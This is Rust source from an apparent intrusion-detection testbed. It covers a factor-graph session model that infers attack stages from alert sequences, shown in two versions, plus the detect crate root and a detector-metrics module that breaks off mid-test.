    if model.gap_model().is_none() {
        return;
    }
    out.extend(alerts.iter().enumerate().map(|(t, a)| {
        if t == 0 {
            factorgraph::timing::GAP_NONE
        } else {
            model.gap_bin(a.ts.saturating_since(alerts[t - 1].ts).as_secs_f64())
        }
    }));
}

fn skip_factor(s: usize, cfg: &SessionGraphConfig, anchor: u32, here: u32) -> Factor {
    let same = cfg.skip_agreement;
    let diff = (1.0 - same) / (s as f64 - 1.0).max(1.0);
    Factor::from_fn(vec![VarId(anchor), VarId(here)], vec![s, s], |a| {
        if a[0] == a[1] {
            same
        } else {
            diff
        }
    })
}

/// Reusable skip-chain inference engine. See the module docs for the
/// reuse semantics.
#[derive(Debug, Clone)]
pub struct SessionEngine {
    model: ChainModel,
    cfg: SessionGraphConfig,
    buf: ChainGraphBuffer,
    /// Skip links materialized in `buf`'s graph.
    links: Vec<(u32, u32)>,
    ws: BpWorkspace,
    /// Scratch: observation symbols of the current session.
    obs: Vec<usize>,
    /// Scratch: quantized gap bins of the current session (empty when the
    /// timing side is off).
    bins: Vec<usize>,
    /// Scratch: links the current session wants.
    want: Vec<(u32, u32)>,
}

impl SessionEngine {
    pub fn new(model: ChainModel, cfg: SessionGraphConfig) -> SessionEngine {
        SessionEngine {
            model,
            cfg,
            buf: ChainGraphBuffer::new(),
            links: Vec::new(),
            ws: BpWorkspace::default(),
            obs: Vec::new(),
            bins: Vec::new(),
            want: Vec::new(),
        }
    }

    pub fn model(&self) -> &ChainModel {
        &self.model
    }

    pub fn config(&self) -> &SessionGraphConfig {
        &self.cfg
    }

    /// Run inference for a session, reusing the graph and workspace.
    /// Returns the skip-factor count and BP statistics; read posteriors
    /// back through [`SessionEngine::marginal`] / `attack_mass` without
    /// allocating.
    pub fn run(&mut self, alerts: &[Alert]) -> (usize, BpStats) {
        self.obs.clear();
        self.obs.extend(alerts.iter().map(|a| a.kind.index()));
        self.bins.clear();
        if self.cfg.gap_observations {
            collect_gap_bins(&self.model, alerts, &mut self.bins);
        }
        collect_skip_links(alerts, &self.cfg, &mut self.want);

        let same_shape = self.buf.chain_len() == self.obs.len() && self.links == self.want;
        if !same_shape {
            self.buf.reset();
        }
        // Same shape ⇒ in-place table refresh (skip factors are constant
        // tables, nothing to update; gap evidence lives in the chain
        // factor tables, which are rewritten every fill); otherwise a
        // full rebuild.
        self.model
            .fill_factor_graph_timed(&self.obs, &self.bins, &mut self.buf);
        if !same_shape {
            let s = self.model.n_states();
            for &(anchor, here) in &self.want {
                self.buf
                    .append_factor(skip_factor(s, &self.cfg, anchor, here));
            }
            std::mem::swap(&mut self.links, &mut self.want);
        }

        let stats = run_in(self.buf.graph(), &self.cfg.bp_options(), &mut self.ws);
        (self.links.len(), stats)
    }

    /// Stage marginal of event `t` from the last [`SessionEngine::run`].
    pub fn marginal(&self, t: usize) -> &[f64] {
        self.ws.marginal(VarId(t as u32))
    }

    /// Posterior mass on attack stages (≥ Foothold) at event `t`.
    pub fn attack_mass(&self, t: usize) -> f64 {
        self.marginal(t)[Stage::Foothold.index()..].iter().sum()
    }

    /// Allocating convenience: full [`SessionPosteriors`].
    pub fn infer(&mut self, alerts: &[Alert]) -> SessionPosteriors {
        if alerts.is_empty() {
            return SessionPosteriors {
                marginals: Vec::new(),
                skip_factors: 0,
                converged: true,
            };
        }
        let (skip_factors, stats) = self.run(alerts);
        SessionPosteriors {
            marginals: (0..alerts.len())
                .map(|t| self.marginal(t).to_vec())
                .collect(),
            skip_factors,
            converged: stats.converged,
        }
    }
}

/// Build the session factor graph: the chain (prior, transition, emission
/// folded on evidence) plus skip-agreement factors between recurrences of
/// indicative kinds. One-shot helper; batch callers use [`SessionEngine`].
pub fn build_session_graph(
    model: &ChainModel,
    alerts: &[Alert],
    cfg: &SessionGraphConfig,
) -> (FactorGraph, usize) {
    let obs: Vec<usize> = alerts.iter().map(|a| a.kind.index()).collect();
    let mut bins = Vec::new();
    if cfg.gap_observations {
        collect_gap_bins(model, alerts, &mut bins);
    }
    let mut buf = ChainGraphBuffer::new();
    model.fill_factor_graph_timed(&obs, &bins, &mut buf);
    let mut links = Vec::new();
    collect_skip_links(alerts, cfg, &mut links);
    let s = model.n_states();
    for &(anchor, here) in &links {
        buf.append_factor(skip_factor(s, cfg, anchor, here));
    }
    (buf.into_graph(), links.len())
}

/// Infer smoothed stage posteriors for a session with the skip-chain
/// model. One-shot helper; batch callers use [`SessionEngine`].
pub fn infer_session(
    model: &ChainModel,
    alerts: &[Alert],
    cfg: &SessionGraphConfig,
) -> SessionPosteriors {
    SessionEngine::new(model.clone(), cfg.clone()).infer(alerts)
}

#[cfg(test)]
#[allow(clippy::needless_range_loop)]
mod tests {
    use super::*;
    use crate::train::toy_training_model;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User("e".into()))
    }

    #[test]
    fn skip_free_session_matches_chain_smoothing() {
        use AlertKind::*;
        let model = toy_training_model();
        // No repeated Significant kinds → zero skip factors → chain.
        let session = vec![
            alert(0, PortScan),
            alert(1, DownloadSensitive),
            alert(2, LogWipe),
        ];
        let cfg = SessionGraphConfig::default();
        let post = infer_session(&model, &session, &cfg);
        assert_eq!(post.skip_factors, 0);
        assert!(post.converged);
        let obs: Vec<usize> = session.iter().map(|a| a.kind.index()).collect();
        let bins: Vec<usize> = session
            .iter()
            .enumerate()
            .map(|(t, a)| {
                if t == 0 {
                    factorgraph::timing::GAP_NONE
                } else {
                    model.gap_bin(a.ts.saturating_since(session[t - 1].ts).as_secs_f64())
                }
            })
            .collect();
        let exact = model.posteriors_timed(&obs, &bins);
        for t in 0..session.len() {
            for s in 0..Stage::COUNT {
                assert!(
                    (post.marginals[t][s] - exact[t][s]).abs() < 1e-5,
                    "t={t} s={s}: {} vs {}",
                    post.marginals[t][s],
                    exact[t][s]
                );
            }
        }
    }

    #[test]
    fn skip_factors_added_for_recurring_significant_kinds() {
        use AlertKind::*;
        let model = toy_training_model();
        let session = vec![
            alert(0, DownloadSensitive),
            alert(1, PortScan),
            alert(2, DownloadSensitive),
            alert(3, DownloadSensitive),
        ];
        let (graph, skips) = build_session_graph(&model, &session, &SessionGraphConfig::default());
        assert_eq!(skips, 2, "two recurrences of the indicative kind");
        // Graph is loopy once skips coexist with the chain.
        assert!(!graph.is_forest());
    }

    #[test]
    fn noise_recurrences_not_linked() {
        use AlertKind::*;
        let model = toy_training_model();
        let session: Vec<Alert> = (0..6).map(|t| alert(t, PortScan)).collect();
        let (_, skips) = build_session_graph(&model, &session, &SessionGraphConfig::default());
        assert_eq!(skips, 0, "scan noise must not be shackled together");
    }

    #[test]
    fn skip_evidence_raises_recurrence_confidence() {
        use AlertKind::*;
        let model = toy_training_model();
        // An ambiguous early download in benign context, whose *recurrence*
        // later sits in a clearly malicious context. The skip factor pipes
        // that late confidence back to the early anchor; without skips
        // (same session, skips disabled) the anchor stays colder.
        let session = vec![
            alert(0, LoginSuccess),
            alert(1, DownloadSensitive), // anchor
            alert(2, JobSubmit),
            alert(3, LoginSuccess),
            alert(4, DownloadSensitive), // recurrence, then escalation:
            alert(5, CompileKernelModule),
            alert(6, LogWipe),
        ];
        let with_skips = infer_session(&model, &session, &SessionGraphConfig::default());
        let no_skips = infer_session(
            &model,
            &session,
            &SessionGraphConfig {
                min_skip_severity: alertlib::taxonomy::Severity::Critical,
                ..Default::default()
            },
        );
        assert_eq!(with_skips.skip_factors, 1);
        assert_eq!(no_skips.skip_factors, 0);
        assert!(
            with_skips.attack_mass(1) > no_skips.attack_mass(1),
            "skip evidence must warm the anchor: {} vs {}",
            with_skips.attack_mass(1),
            no_skips.attack_mass(1)
        );
    }

    #[test]
    fn max_skips_cap_respected() {
        use AlertKind::*;
        let model = toy_training_model();
        let session: Vec<Alert> = (0..10).map(|t| alert(t, DownloadSensitive)).collect();
        let cfg = SessionGraphConfig {
            max_skips_per_kind: 2,
            ..Default::default()
        };
        let (_, skips) = build_session_graph(&model, &session, &cfg);
        assert_eq!(skips, 2);
    }

    #[test]
    fn ransomware_session_stages_progress() {
        let model = toy_training_model();
        let session: Vec<Alert> = scenario_kinds()
            .into_iter()
            .enumerate()
            .map(|(t, k)| alert(t as u64, k))
            .collect();
        let post = infer_session(&model, &session, &SessionGraphConfig::default());
        assert!(post.converged);
        // Late events sit in attack stages with high confidence.
        let last = session.len() - 1;
        assert!(
            post.attack_mass(last) > 0.9,
            "got {}",
            post.attack_mass(last)
        );
        assert!(post.stage_at(last) >= Stage::Lateral);
    }

    fn scenario_kinds() -> Vec<AlertKind> {
        use AlertKind::*;
        vec![
            RepeatedProbeDb,
            DefaultCredentialUse,
            DbVersionRecon,
            ElfMagicInDbBlob,
            LoExportExecution,
            FileDropTmp,
            SshKeyEnumeration,
            LateralMovementAttempt,
            C2Communication,
        ]
    }

    /// Slow sessions fold real gap bins: the timed session graph must
    /// match timed chain smoothing on a skip-free session, and differ
    /// from the order-only solve (the toy gap tables are live).
    #[test]
    fn slow_session_gap_evidence_reaches_the_graph() {
        use AlertKind::*;
        // The toy corpus's fake 1-second timestamps all fall under the
        // neutral-gap guard, leaving its learned gap rows uniform — use an
        // explicit tempo-discriminating gap model instead (fast bin < 1h
        // favours benign/recon, slow bin favours the attack stages).
        let mut emit = Vec::new();
        for s in 0..Stage::COUNT {
            if s >= Stage::Foothold.index() {
                emit.extend([0.3, 0.7]);
            } else {
                emit.extend([0.8, 0.2]);
            }
        }
        let model = toy_training_model().with_gap_model(factorgraph::timing::GapModel::new(
            Stage::COUNT,
            vec![3_600.0],
            emit,
        ));
        assert!(model.gap_model().is_some());
        // Hours-apart alerts: bins land in informative territory.
        let session = vec![
            alert(0, PortScan),
            alert(8_000, DownloadSensitive),
            alert(23_000, LogWipe),
        ];
        let cfg = SessionGraphConfig::default();
        let timed = infer_session(&model, &session, &cfg);
        let order_only = infer_session(
            &model,
            &session,
            &SessionGraphConfig {
                gap_observations: false,
                ..cfg.clone()
            },
        );
        let obs: Vec<usize> = session.iter().map(|a| a.kind.index()).collect();
        let bins: Vec<usize> = vec![
            factorgraph::timing::GAP_NONE,
            model.gap_bin(8_000.0),
            model.gap_bin(15_000.0),
        ];
        assert!(bins[1] != factorgraph::timing::GAP_NONE);
        let exact = model.posteriors_timed(&obs, &bins);
        let plain = model.posteriors(&obs);
        let mut saw_difference = false;
        for t in 0..session.len() {
            for s in 0..Stage::COUNT {
                assert!(
                    (timed.marginals[t][s] - exact[t][s]).abs() < 1e-5,
                    "timed graph vs timed chain t={t} s={s}"
                );
                assert!(
                    (order_only.marginals[t][s] - plain[t][s]).abs() < 1e-5,
                    "order-only graph vs plain chain t={t} s={s}"
                );
                if (timed.marginals[t][s] - order_only.marginals[t][s]).abs() > 1e-6 {
                    saw_difference = true;
                }
            }
        }
        assert!(saw_difference, "gap evidence must move some marginal");
    }

    #[test]
    fn empty_session() {
        let model = toy_training_model();
        let post = infer_session(&model, &[], &SessionGraphConfig::default());
        assert!(post.marginals.is_empty());
        assert!(post.converged);
    }

    #[test]
    fn engine_reuse_matches_one_shot_inference() {
        use AlertKind::*;
        let model = toy_training_model();
        let cfg = SessionGraphConfig::default();
        let mut engine = SessionEngine::new(model.clone(), cfg.clone());
        let sessions: Vec<Vec<Alert>> = vec![
            // Same shape twice (exercises the in-place refresh)...
            vec![
                alert(0, PortScan),
                alert(1, DownloadSensitive),
                alert(2, LogWipe),
            ],
            vec![
                alert(0, LoginSuccess),
                alert(1, JobSubmit),
                alert(2, PortScan),
            ],
            // ...then a shape change (length and skip links).
            vec![
                alert(0, DownloadSensitive),
                alert(1, PortScan),
                alert(2, DownloadSensitive),
                alert(3, LogWipe),
            ],
        ];
        for session in &sessions {
            let reused = engine.infer(session);
            let fresh = infer_session(&model, session, &cfg);
            assert_eq!(reused.skip_factors, fresh.skip_factors);
            for t in 0..session.len() {
                for s in 0..Stage::COUNT {
                    assert!(
                        (reused.marginals[t][s] - fresh.marginals[t][s]).abs() < 1e-12,
                        "t={t} s={s}"
                    );
                }
            }
        }
    }

    #[test]
    fn parallel_and_residual_schedules_agree_on_sessions() {
        let model = toy_training_model();
        let session: Vec<Alert> = scenario_kinds()
            .into_iter()
            .chain(scenario_kinds())
            .enumerate()
            .map(|(t, k)| alert(t as u64, k))
            .collect();
        let base = infer_session(&model, &session, &SessionGraphConfig::default());
        for schedule in [BpSchedule::ParallelFlood, BpSchedule::Residual] {
            let alt = infer_session(
                &model,
                &session,
                &SessionGraphConfig {
                    schedule,
                    ..Default::default()
                },
            );
            assert_eq!(alt.skip_factors, base.skip_factors);
            assert!(alt.converged, "{schedule:?}");
            for t in 0..session.len() {
                for s in 0..Stage::COUNT {
                    assert!(
                        (alt.marginals[t][s] - base.marginals[t][s]).abs() < 1e-4,
                        "{schedule:?} t={t} s={s}: {} vs {}",
                        alt.marginals[t][s],
                        base.marginals[t][s]
                    );
                }
            }
        }
    }
}
