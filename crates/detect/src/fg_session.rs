//! Full factor-graph session model (skip-chain extension).
//!
//! The chain model of [`crate::attack_tagger`] links consecutive events
//! only. The factor-graph formulation of ref [6] is richer: repeated
//! observations of the *same alert kind* within a session are linked by
//! additional "skip" factors, encoding that recurrences of an indicative
//! alert refer to the same underlying attack state even when far apart in
//! the stream. The resulting graph is loopy; inference uses damped
//! sum-product BP, and falls back to exact behaviour on skip-free
//! sessions (where the graph is the chain).
//!
//! This module is the offline/forensic analysis counterpart to the online
//! chain filter: given a full session, it produces smoothed per-event
//! stage posteriors with the skip evidence folded in.

use alertlib::alert::Alert;
use factorgraph::chain::ChainModel;
use factorgraph::factor::Factor;
use factorgraph::graph::FactorGraph;
use factorgraph::sumproduct::{run, BpOptions};
use serde::{Deserialize, Serialize};
use simnet::rng::FxHashMap;

use crate::stage::Stage;

/// Configuration of the session factor graph.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SessionGraphConfig {
    /// Strength of the skip factor: probability mass placed on the two
    /// linked events being in the same stage (vs. uniform elsewhere).
    /// 0.5 = no information; 1.0 = hard equality.
    pub skip_agreement: f64,
    /// Only link recurrences of kinds at least this severe (linking scan
    /// noise would shackle the whole session together).
    pub min_skip_severity: alertlib::taxonomy::Severity,
    /// Cap on skip links per kind (first occurrence links to at most this
    /// many later recurrences).
    pub max_skips_per_kind: usize,
    /// BP options (damping is required on loopy sessions).
    pub max_iters: usize,
    pub damping: f64,
}

impl Default for SessionGraphConfig {
    fn default() -> Self {
        SessionGraphConfig {
            skip_agreement: 0.8,
            min_skip_severity: alertlib::taxonomy::Severity::Significant,
            max_skips_per_kind: 3,
            max_iters: 200,
            damping: 0.3,
        }
    }
}

/// Result of session-graph inference.
#[derive(Debug, Clone)]
pub struct SessionPosteriors {
    /// Per-event stage marginals.
    pub marginals: Vec<Vec<f64>>,
    /// Number of skip factors added.
    pub skip_factors: usize,
    /// Whether BP converged.
    pub converged: bool,
}

impl SessionPosteriors {
    /// The most probable stage at event `t`.
    pub fn stage_at(&self, t: usize) -> Stage {
        let m = &self.marginals[t];
        let mut best = 0;
        for s in 1..m.len() {
            if m[s] > m[best] {
                best = s;
            }
        }
        Stage::from_index(best)
    }

    /// Posterior mass on attack stages (≥ Foothold) at event `t`.
    pub fn attack_mass(&self, t: usize) -> f64 {
        self.marginals[t][Stage::Foothold.index()..].iter().sum()
    }
}

/// Build the session factor graph: the chain (prior, transition, emission
/// folded on evidence) plus skip-agreement factors between recurrences of
/// indicative kinds.
pub fn build_session_graph(
    model: &ChainModel,
    alerts: &[Alert],
    cfg: &SessionGraphConfig,
) -> (FactorGraph, usize) {
    let obs: Vec<usize> = alerts.iter().map(|a| a.kind.index()).collect();
    let mut graph = model.to_factor_graph(&obs);
    let s = model.n_states();
    // Skip factors: link the first occurrence of an indicative kind to its
    // later recurrences.
    let mut first_seen: FxHashMap<usize, (u32, usize)> = FxHashMap::default();
    let mut skips = 0;
    for (t, a) in alerts.iter().enumerate() {
        if a.severity() < cfg.min_skip_severity {
            continue;
        }
        let kind = a.kind.index();
        match first_seen.get_mut(&kind) {
            None => {
                first_seen.insert(kind, (t as u32, 0));
            }
            Some((anchor, used)) if *used < cfg.max_skips_per_kind => {
                let anchor_var = factorgraph::VarId(*anchor);
                let here = factorgraph::VarId(t as u32);
                let same = cfg.skip_agreement;
                let diff = (1.0 - same) / (s as f64 - 1.0).max(1.0);
                let table = Factor::from_fn(vec![anchor_var, here], vec![s, s], |a| {
                    if a[0] == a[1] {
                        same
                    } else {
                        diff
                    }
                });
                graph.add_factor(table);
                *used += 1;
                skips += 1;
            }
            Some(_) => {}
        }
    }
    (graph, skips)
}

/// Infer smoothed stage posteriors for a session with the skip-chain model.
pub fn infer_session(
    model: &ChainModel,
    alerts: &[Alert],
    cfg: &SessionGraphConfig,
) -> SessionPosteriors {
    if alerts.is_empty() {
        return SessionPosteriors { marginals: Vec::new(), skip_factors: 0, converged: true };
    }
    let (graph, skip_factors) = build_session_graph(model, alerts, cfg);
    let result = run(
        &graph,
        &BpOptions { max_iters: cfg.max_iters, damping: cfg.damping, tolerance: 1e-8 },
    );
    SessionPosteriors {
        marginals: result.marginals,
        skip_factors,
        converged: result.converged,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::train::toy_training_model;
    use alertlib::alert::Entity;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn alert(t: u64, kind: AlertKind) -> Alert {
        Alert::new(SimTime::from_secs(t), kind, Entity::User("e".into()))
    }

    #[test]
    fn skip_free_session_matches_chain_smoothing() {
        use AlertKind::*;
        let model = toy_training_model();
        // No repeated Significant kinds → zero skip factors → chain.
        let session =
            vec![alert(0, PortScan), alert(1, DownloadSensitive), alert(2, LogWipe)];
        let cfg = SessionGraphConfig::default();
        let post = infer_session(&model, &session, &cfg);
        assert_eq!(post.skip_factors, 0);
        assert!(post.converged);
        let obs: Vec<usize> = session.iter().map(|a| a.kind.index()).collect();
        let exact = model.posteriors(&obs);
        for t in 0..session.len() {
            for s in 0..Stage::COUNT {
                assert!(
                    (post.marginals[t][s] - exact[t][s]).abs() < 1e-5,
                    "t={t} s={s}: {} vs {}",
                    post.marginals[t][s],
                    exact[t][s]
                );
            }
        }
    }

    #[test]
    fn skip_factors_added_for_recurring_significant_kinds() {
        use AlertKind::*;
        let model = toy_training_model();
        let session = vec![
            alert(0, DownloadSensitive),
            alert(1, PortScan),
            alert(2, DownloadSensitive),
            alert(3, DownloadSensitive),
        ];
        let (graph, skips) =
            build_session_graph(&model, &session, &SessionGraphConfig::default());
        assert_eq!(skips, 2, "two recurrences of the indicative kind");
        // Graph is loopy once skips coexist with the chain.
        assert!(!graph.is_forest());
    }

    #[test]
    fn noise_recurrences_not_linked() {
        use AlertKind::*;
        let model = toy_training_model();
        let session: Vec<Alert> = (0..6).map(|t| alert(t, PortScan)).collect();
        let (_, skips) = build_session_graph(&model, &session, &SessionGraphConfig::default());
        assert_eq!(skips, 0, "scan noise must not be shackled together");
    }

    #[test]
    fn skip_evidence_raises_recurrence_confidence() {
        use AlertKind::*;
        let model = toy_training_model();
        // An ambiguous early download in benign context, whose *recurrence*
        // later sits in a clearly malicious context. The skip factor pipes
        // that late confidence back to the early anchor; without skips
        // (same session, skips disabled) the anchor stays colder.
        let session = vec![
            alert(0, LoginSuccess),
            alert(1, DownloadSensitive), // anchor
            alert(2, JobSubmit),
            alert(3, LoginSuccess),
            alert(4, DownloadSensitive), // recurrence, then escalation:
            alert(5, CompileKernelModule),
            alert(6, LogWipe),
        ];
        let with_skips = infer_session(&model, &session, &SessionGraphConfig::default());
        let no_skips = infer_session(
            &model,
            &session,
            &SessionGraphConfig {
                min_skip_severity: alertlib::taxonomy::Severity::Critical,
                ..Default::default()
            },
        );
        assert_eq!(with_skips.skip_factors, 1);
        assert_eq!(no_skips.skip_factors, 0);
        assert!(
            with_skips.attack_mass(1) > no_skips.attack_mass(1),
            "skip evidence must warm the anchor: {} vs {}",
            with_skips.attack_mass(1),
            no_skips.attack_mass(1)
        );
    }

    #[test]
    fn max_skips_cap_respected() {
        use AlertKind::*;
        let model = toy_training_model();
        let session: Vec<Alert> = (0..10).map(|t| alert(t, DownloadSensitive)).collect();
        let cfg = SessionGraphConfig { max_skips_per_kind: 2, ..Default::default() };
        let (_, skips) = build_session_graph(&model, &session, &cfg);
        assert_eq!(skips, 2);
    }

    #[test]
    fn ransomware_session_stages_progress() {
        let model = toy_training_model();
        let session: Vec<Alert> = scenario_kinds()
            .into_iter()
            .enumerate()
            .map(|(t, k)| alert(t as u64, k))
            .collect();
        let post = infer_session(&model, &session, &SessionGraphConfig::default());
        assert!(post.converged);
        // Late events sit in attack stages with high confidence.
        let last = session.len() - 1;
        assert!(post.attack_mass(last) > 0.9, "got {}", post.attack_mass(last));
        assert!(post.stage_at(last) >= Stage::Lateral);
    }

    fn scenario_kinds() -> Vec<AlertKind> {
        use AlertKind::*;
        vec![
            RepeatedProbeDb,
            DefaultCredentialUse,
            DbVersionRecon,
            ElfMagicInDbBlob,
            LoExportExecution,
            FileDropTmp,
            SshKeyEnumeration,
            LateralMovementAttempt,
            C2Communication,
        ]
    }

    #[test]
    fn empty_session() {
        let model = toy_training_model();
        let post = infer_session(&model, &[], &SessionGraphConfig::default());
        assert!(post.marginals.is_empty());
        assert!(post.converged);
    }
}
