//! # detect — preemption models
//!
//! The detection models deployed on the testbed (§IV, §V):
//!
//! - [`attack_tagger`] — the factor-graph detector ([5], [6]): per-entity
//!   hidden attack-stage chains with learned observation and transition
//!   factors; causal forward filtering raises detections *before* damage.
//! - [`correlate`] — cross-entity campaign correlation: stitches
//!   lateral-split hops into campaigns through shared victim / source /
//!   host / exec-palette join keys and promotes linked sub-threshold
//!   posteriors into fused campaign-level detections.
//! - [`rules`] — the rule-based baseline matching recurring alert
//!   sequences within time windows.
//! - [`critical`] — the critical-alert-only baseline, which detects but by
//!   construction cannot preempt (Insight 4).
//! - [`fg_session`] — the full (loopy) skip-chain session factor graph of
//!   ref [6], for offline forensic inference.
//! - [`online`] — online per-entity adapter for the offline baselines.
//! - [`stage`] — the hidden attack-stage vocabulary.
//! - [`sessionize`] — entity sessionization per the §III-B threat model.
//! - [`train`] — supervised MLE training from annotated incidents.
//! - [`metrics`] — detection / preemption / lead-time evaluation.

pub mod attack_tagger;
pub mod correlate;
pub mod critical;
pub mod fg_session;
pub mod metrics;
pub mod online;
pub mod rules;
pub mod sessionize;
pub mod stage;
pub mod train;

pub use attack_tagger::{AttackTagger, Detection, Observation, TaggerConfig};
pub use correlate::{
    CampaignCorrelator, CampaignSummary, CorrelatedTagger, CorrelationPolicy, LinkKind, LinkSummary,
};
pub use critical::CriticalOnlyDetector;
pub use fg_session::{build_session_graph, infer_session, SessionGraphConfig, SessionPosteriors};
pub use metrics::{evaluate, prefix_sweep, EvalSummary, IncidentOutcome, SequenceDetector};
pub use online::OnlineSessionDetector;
pub use rules::{Rule, RuleBasedDetector};
pub use sessionize::{sessionize, Session, Sessionizer};
pub use stage::{monotone_stage_labels, Stage};
pub use train::{toy_training_model, train, TrainConfig};
