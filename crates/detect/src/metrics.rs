//! Detector evaluation: detection, preemption, lead time.
//!
//! The paper's headline result is *preemption*: the factor-graph model
//! notified operators **12 days** before the ransomware hit production.
//! This module scores any detector on an incident corpus plus benign
//! sessions: did it detect, did it detect *before the first critical
//! alert* (preemption), with how much lead time, and at what false-positive
//! cost on benign sessions.

use alertlib::alert::Alert;
use alertlib::store::{IncidentId, IncidentStore};
use rayon::prelude::*;
use serde::{Deserialize, Serialize};
use simnet::time::SimDuration;

use crate::attack_tagger::{AttackTagger, Detection};
use crate::critical::CriticalOnlyDetector;
use crate::rules::RuleBasedDetector;

/// Anything that can scan a per-entity session for an attack.
pub trait SequenceDetector: Sync {
    fn name(&self) -> &str;
    fn scan(&self, alerts: &[Alert]) -> Option<Detection>;
}

impl SequenceDetector for AttackTagger {
    fn name(&self) -> &str {
        "attack-tagger"
    }
    fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        AttackTagger::scan(self, alerts)
    }
}

impl SequenceDetector for RuleBasedDetector {
    fn name(&self) -> &str {
        "rule-based"
    }
    fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        RuleBasedDetector::scan(self, alerts)
    }
}

impl SequenceDetector for CriticalOnlyDetector {
    fn name(&self) -> &str {
        "critical-only"
    }
    fn scan(&self, alerts: &[Alert]) -> Option<Detection> {
        CriticalOnlyDetector::scan(self, alerts)
    }
}

/// Per-incident evaluation outcome.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct IncidentOutcome {
    pub id: IncidentId,
    pub detected: bool,
    /// Detection strictly before the first critical alert.
    pub preempted: bool,
    /// Damage time minus detection time, when preempted.
    pub lead: Option<SimDuration>,
    /// Alerts observed before (and including) the detection trigger.
    pub alerts_to_detect: Option<usize>,
}

/// Aggregate evaluation summary.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EvalSummary {
    pub detector: String,
    pub incidents: usize,
    pub detected: usize,
    pub preempted: usize,
    pub benign_sessions: usize,
    pub false_positives: usize,
    pub recall: f64,
    pub precision: f64,
    pub f1: f64,
    /// Fraction of incidents detected before damage.
    pub preemption_rate: f64,
    pub mean_lead_secs: f64,
    pub median_lead_secs: f64,
}

/// Evaluate a detector on a corpus and benign sessions.
pub fn evaluate(
    det: &dyn SequenceDetector,
    store: &IncidentStore,
    benign_sessions: &[Vec<Alert>],
) -> (Vec<IncidentOutcome>, EvalSummary) {
    let incidents: Vec<_> = store.iter().collect();
    let outcomes: Vec<IncidentOutcome> = incidents
        .par_iter()
        .map(|inc| {
            let detection = det.scan(&inc.alerts);
            let damage_ts = inc.first_damage_ts();
            match detection {
                None => IncidentOutcome {
                    id: inc.id,
                    detected: false,
                    preempted: false,
                    lead: None,
                    alerts_to_detect: None,
                },
                Some(d) => {
                    let (preempted, lead) = match damage_ts {
                        Some(dt) if d.ts < dt => (true, Some(dt - d.ts)),
                        Some(_) => (false, None),
                        // No damage in the incident: any detection is early.
                        None => (true, None),
                    };
                    IncidentOutcome {
                        id: inc.id,
                        detected: true,
                        preempted,
                        lead,
                        alerts_to_detect: Some(d.alert_index + 1),
                    }
                }
            }
        })
        .collect();

    let false_positives = benign_sessions
        .par_iter()
        .filter(|s| det.scan(s).is_some())
        .count();

    let detected = outcomes.iter().filter(|o| o.detected).count();
    let preempted = outcomes.iter().filter(|o| o.preempted).count();
    let mut leads: Vec<f64> = outcomes
        .iter()
        .filter_map(|o| o.lead)
        .map(|l| l.as_secs_f64())
        .collect();
    leads.sort_by(|a, b| a.partial_cmp(b).expect("finite leads"));
    let recall = if outcomes.is_empty() {
        0.0
    } else {
        detected as f64 / outcomes.len() as f64
    };
    let precision = if detected + false_positives == 0 {
        1.0
    } else {
        detected as f64 / (detected + false_positives) as f64
    };
    let f1 = if precision + recall == 0.0 {
        0.0
    } else {
        2.0 * precision * recall / (precision + recall)
    };
    let mean_lead = if leads.is_empty() {
        0.0
    } else {
        leads.iter().sum::<f64>() / leads.len() as f64
    };
    let median_lead = if leads.is_empty() {
        0.0
    } else {
        leads[leads.len() / 2]
    };
    let summary = EvalSummary {
        detector: det.name().to_string(),
        incidents: outcomes.len(),
        detected,
        preempted,
        benign_sessions: benign_sessions.len(),
        false_positives,
        recall,
        precision,
        f1,
        preemption_rate: if outcomes.is_empty() {
            0.0
        } else {
            preempted as f64 / outcomes.len() as f64
        },
        mean_lead_secs: mean_lead,
        median_lead_secs: median_lead,
    };
    (outcomes, summary)
}

/// Detection rate when the detector only sees the first `k` alerts of each
/// incident — Insight 2's "effective range ... two to four alerts"
/// (experiment E11).
pub fn prefix_sweep(
    det: &dyn SequenceDetector,
    store: &IncidentStore,
    max_prefix: usize,
) -> Vec<(usize, f64)> {
    (1..=max_prefix)
        .map(|k| {
            let hits = store
                .iter()
                .collect::<Vec<_>>()
                .par_iter()
                .filter(|inc| {
                    let n = inc.alerts.len().min(k);
                    det.scan(&inc.alerts[..n]).is_some()
                })
                .count();
            let rate = if store.is_empty() {
                0.0
            } else {
                hits as f64 / store.len() as f64
            };
            (k, rate)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attack_tagger::TaggerConfig;
    use crate::train::toy_training_model;
    use alertlib::alert::Entity;
    use alertlib::store::Incident;
    use alertlib::taxonomy::AlertKind;
    use simnet::time::SimTime;

    fn mk_incident(kinds: &[AlertKind]) -> Incident {
        let mut inc = Incident::new(IncidentId(0), "t", 2020);
        for (i, &k) in kinds.iter().enumerate() {
            inc.push_alert(Alert::new(
                SimTime::from_secs(i as u64 * 100),
                k,
                Entity::User("eve".into()),
            ));
        }
        inc
    }

    fn corpus() -> IncidentStore {
        use AlertKind::*;
        let mut store = IncidentStore::new();
        for _ in 0..5 {
            store.add(mk_incident(&[
                PortScan,
                DownloadSensitive,
                CompileKernelModule,
                LogWipe,
                DataExfiltration,
            ]));
        }
        store
    }

    fn benign() -> Vec<Vec<Alert>> {
        use AlertKind::*;
        (0..10)
            .map(|_| {
                [LoginSuccess, JobSubmit, FileTransfer]
                    .iter()
                    .enumerate()
                    .map(|(i, &k)| {
                        Alert::new(
                            SimTime::from_secs(i as u64),
                            k,
                            Entity::User("alice".into()),
                        )
                    })
                    .collect()
            })
            .collect()
    }

    #[test]
    fn attack_tagger_preempts_critical_only_does_not() {
        let store = corpus();
        let benign = benign();
        let tagger = AttackTagger::new(toy_training_model(), TaggerConfig::default());
        let (_, tagger_sum) = evaluate(&tagger, &store, &benign);
        assert_eq!(tagger_sum.detected, 5);
        assert_eq!(tagger_sum.preempted, 5, "tagger must beat the damage step");
